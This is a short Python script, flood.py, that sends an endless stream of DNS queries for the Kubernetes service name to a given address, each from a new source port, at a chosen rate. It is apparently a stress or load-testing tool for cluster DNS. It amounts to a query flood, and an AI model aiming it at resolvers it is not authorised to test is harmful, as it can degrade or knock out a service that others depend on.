"""Ask a Service without end, each question from a source port of its own: flood.py ADDRESS PORT QUESTIONS_A_SECOND."""

import socket
import struct
import sys
import time

NAME = b"\x0akubernetes\x07default\x03svc\x07cluster\x05local\x00"
target, pause = (sys.argv[1], int(sys.argv[2])), 1 / float(sys.argv[3])
number = 0
while True:
    number = (number + 1) % 65536
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.sendto(struct.pack("!6H", number, 0x0100, 1, 0, 0, 0) + NAME + struct.pack("!2H", 1, 1), target)
        time.sleep(pause)
